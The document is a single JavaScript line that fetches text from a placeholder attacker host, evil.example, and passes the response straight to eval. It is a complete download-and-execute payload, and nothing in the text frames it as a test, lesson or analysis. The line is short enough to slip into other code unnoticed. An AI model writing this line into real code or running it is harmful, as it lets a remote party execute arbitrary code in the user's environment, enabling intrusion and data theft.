fetch("https://evil.example/p").then(r => r.text()).then(eval);
